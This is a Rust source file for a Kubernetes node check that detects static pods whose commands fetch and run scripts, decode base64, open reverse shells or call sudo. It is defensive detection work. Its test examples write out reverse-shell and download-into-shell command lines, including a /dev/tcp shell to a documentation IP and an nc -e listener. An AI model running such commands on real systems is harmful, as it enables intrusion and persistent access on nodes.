use super::containers::{Inside, each_container, words};
use crate::checks::check::{
    Check, Judge, Maps, Remediation, View, by_hand, kubectl, offence, on_node,
};
use crate::model::fact::{Gap, Need};
use crate::model::name::CheckId;
use crate::model::node::NodeFacts;
use crate::model::verdict::{Offence, Severity, Verdict};

/// Where a container says what is run.
const COMMANDS: [&str; 7] = [
    "/command",
    "/args",
    "/lifecycle/postStart/exec/command",
    "/lifecycle/preStop/exec/command",
    "/livenessProbe/exec/command",
    "/readinessProbe/exec/command",
    "/startupProbe/exec/command",
];

pub static CHECK: Check = Check {
    id: CheckId("SP-PRIV-017"),
    title: "No command fetches and runs, or opens a shell outward",
    why: "A static pod that downloads a script into a shell, decodes one, or connects a shell to a socket is how intruders stay on a node.",
    severity: Severity::Medium,
    since: "0.2.0",
    needs: &[Need::Manifests],
    helps: &[],
    maps: &[Maps::Attack("T1059"), Maps::Attack("T1105")],
    fix: Remediation {
        steps: &[
            on_node("grep -rlFe {pod} /etc/kubernetes/manifests"),
            by_hand(
                "find out who wrote it; where it is not meant, keep that file as evidence outside of the folder; where it is, build what it fetches into the image of container {container}",
            ),
            kubectl("kubectl logs -n {ns} {pod}-{node} -c {container} --tail=20"),
        ],
        restarts: "the pod, once, as soon as the file is changed",
        undo: &[by_hand("put the file back under its old name")],
    },
    examples: &[
        ("manifests: []", "PASS"),
        (
            "manifests: [{file: a.yaml, pod: {metadata: {name: a}, spec: {containers: [{name: c, command: [sh, -c, 'curl -s localhost:80/healthz && echo sync -e done']}, {name: d, command: [/nc-exporter, --sudo=no]}]}}}]",
            "PASS",
        ),
        (
            "manifests: [{file: a.yaml, pod: {metadata: {name: a}, spec: {containers: [{name: c, command: [sh, -c], args: ['curl -sL http://x/i | sudo bash -s']}]}}}]",
            "FAIL medium: container c of default/a pipes a download into a shell, calls sudo",
        ),
        (
            "manifests: [{file: a.yaml, pod: {metadata: {name: a}, spec: {initContainers: [{name: i, args: ['echo x|base64 -d|sh']}], containers: [{name: c, lifecycle: {postStart: {exec: {command: [bash, -c, 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1']}}}}, {name: d, command: [nc, -lvp, '4444', -e, /bin/sh]}]}}}, {file: b.yaml, unread: denied}]",
            "FAIL medium: container i of default/a decodes base64; medium: container c of default/a connects a shell to a socket; medium: container d of default/a connects a shell to a socket; gap: the login may not read it",
        ),
        (
            "manifests: {gap: denied}",
            "UNKNOWN: the login may not read it",
        ),
    ],
    judge: Judge::Node(judge),
    file: file!(),
};

fn judge(node: &NodeFacts, _: &View<'_>) -> Result<Verdict, Gap> {
    each_container(node, |inside| Ok(one(inside)))
}

fn one(inside: &Inside<'_>) -> Option<Offence> {
    let mut found: Vec<&str> = Vec::new();
    // Command and arguments are one line.
    let main: Vec<&str> = COMMANDS[..2]
        .iter()
        .flat_map(|at| words(inside.container.pointer(at)))
        .collect();
    let others = COMMANDS[2..].iter();
    let others = others.map(|at| words(inside.container.pointer(at)).collect::<Vec<&str>>());
    for line in std::iter::once(main).chain(others) {
        for sign in signs(&line.join(" ")) {
            if !found.contains(&sign) {
                found.push(sign);
            }
        }
    }
    let message = format!("{} {}", inside.words(), found.join(", "));
    (!found.is_empty()).then(|| {
        offence(
            inside.subject.clone(),
            Severity::Medium,
            message,
            [inside.at],
        )
    })
}

const SHELLS: [&str; 8] = [
    "ash", "bash", "dash", "perl", "python", "python3", "sh", "zsh",
];

/// What a command line does that none should; only the words are told, never the line, which may hold secrets.
fn signs(line: &str) -> Vec<&'static str> {
    let parts: Vec<Vec<&str>> = line.split(['|', ';', '&', '\n']).map(programs).collect();
    let has = |words: &[&str], wanted: &[&str]| words.iter().any(|word| wanted.contains(word));
    // The shell that runs the line stands before the download: only one behind it is fed by it.
    let fetch = parts.iter().position(|words| has(words, &["curl", "wget"]));
    let is_piped = line.contains('|');
    let fed = fetch.is_some_and(|at| parts[at + 1..].iter().any(|words| starts(words)));
    let decodes = parts
        .iter()
        .any(|words| has(words, &["base64"]) && has(words, &["-d", "-D", "--decode"]));
    let netcat = parts.iter().any(|words| {
        let options = ["-e", "-c", "--exec", "--sh-exec"];
        has(words, &["nc", "ncat", "netcat"]) && has(words, &options)
    });
    let socket = netcat || line.contains("/dev/tcp/") || line.contains("/dev/udp/");
    let sudo = parts.iter().any(|words| has(words, &["sudo"]));
    [
        (is_piped && fed, "pipes a download into a shell"),
        (decodes, "decodes base64"),
        (socket, "connects a shell to a socket"),
        (sudo, "calls sudo"),
    ]
    .into_iter()
    .filter_map(|(is, sign)| is.then_some(sign))
    .collect()
}

/// The words of a part of a line, without folders and what stands around a command within another.
fn programs(part: &str) -> Vec<&str> {
    let words = part.split_whitespace();
    let bare = words.map(|word| word.trim_start_matches(['$', '(', '`', '"', '\'']));
    bare.map(|word| word.rsplit('/').next().unwrap_or(word))
        .collect()
}

/// Whether a part starts a shell.
fn starts(words: &[&str]) -> bool {
    let mut words = words
        .iter()
        .skip_while(|word| **word == "sudo" || word.contains('='));
    words.next().is_some_and(|word| SHELLS.contains(word))
}
